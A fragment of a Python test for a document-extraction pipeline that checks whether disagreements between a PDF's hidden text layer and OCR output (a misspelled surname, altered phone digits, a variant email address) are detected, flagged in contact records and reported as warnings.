    disputed = {(d["hidden"], d["ocr"]) for d in stages.layout["foreign_text_layer"]["disagreements"]}
    assert {("Kyvsgaurd", "Kyvsgaard"), ("61905087", "61905081")} <= disputed
    assert any(h.endswith("nofar.hamramy@innovationisrael.org") and o == "nofar.hamrany@innovationisrael.org"
               for h, o in disputed)
    edition = _edition(out)
    flagged = _flagged(out)
    for d in edition["directions"]:
        for i, c in enumerate(d["contacts"]):
            assert not ({(c["name"] or "").lower(), c["email"], c["phone"]} & WRONG)
            if c["name"] == "Martin Kyvsgaard" or c["email"] == "nofar.hamrany@innovationisrael.org":
                # where the two readings disagreed, the value is flagged (and says so in its provenance)
                assert flagged.get((d["id"], f"contacts[{i}]")) in ("foreign_text_layer_disagrees", "foreign_text_layer")
                ocr = c["source"]["locations"][0]["ocr"]
                assert ocr.get("foreign_layer") == "disagrees" or ocr.get("source") == "foreign text layer"
    assert any("the hidden text layer reads “Kyvsgaurd” where our OCR reads “Kyvsgaard”" in w
               for w in stages.edition.warnings)
